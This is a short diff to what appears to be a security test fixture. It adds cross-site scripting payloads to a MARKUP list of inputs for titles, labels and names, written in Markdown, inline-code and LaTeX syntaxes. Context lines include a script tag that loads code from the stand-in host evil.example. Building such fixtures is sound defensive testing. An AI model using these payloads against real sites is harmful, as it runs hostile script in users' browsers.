@@ -8,6 +8,9 @@ const B64 = (text) => Buffer.from(text).toString("base64");
 
 /** Markup for places that take a text: titles, labels, names. */
 export const MARKUP = [
+  "++\"<img src=x onerror=pwned()>\"+ctrl++ {++<img src=x onerror=pwned()>++}{>>\" onclick=pwned()<<}",
+  "`#!py\" onclick=pwned() x` `#!html <script>pwned()</script>`",
+  "$\\text{<img src=x onerror=pwned()>}$ $\\href{javascript:pwned()}{x}$",
   "<script>pwned()</script>",
   "<ScRiPt>pwned()</sCrIpT>",
   "<script src=//evil.example/a.js></script>",
